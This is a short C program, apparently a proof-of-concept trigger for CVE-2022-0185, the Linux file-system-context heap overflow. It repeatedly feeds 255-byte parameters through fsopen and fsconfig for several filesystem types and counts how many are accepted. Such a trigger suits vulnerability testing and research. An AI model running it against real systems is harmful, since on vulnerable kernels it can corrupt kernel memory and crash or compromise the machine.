// CVE-2022-0185: parameters of a file system context, longer together than the page that they are kept in.
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define FSCONFIG_SET_STRING 1 // include/uapi/linux/mount.h

int main(void) {
  // With legacy parameters: neither of the two has a parser of its own.
  const char *types[] = {"cgroup2", "9p", "devpts", "ext2", "fuse"};
  char value[256];
  memset(value, 'A', sizeof value - 1);
  value[sizeof value - 1] = 0;
  for (unsigned type = 0; type < sizeof types / sizeof *types; type++) {
    int context = (int)syscall(SYS_fsopen, types[type], 0);
    if (context < 0) { printf("%s: %s; ", types[type], strerror(errno)); continue; }
    int taken = 0;
    for (int round = 0; round < 64; round++) taken += syscall(SYS_fsconfig, context, FSCONFIG_SET_STRING, "", value, 0) == 0;
    printf("%s: %d of 64 taken; ", types[type], taken);
    close(context);
  }
  puts("end");
  return 0;
}
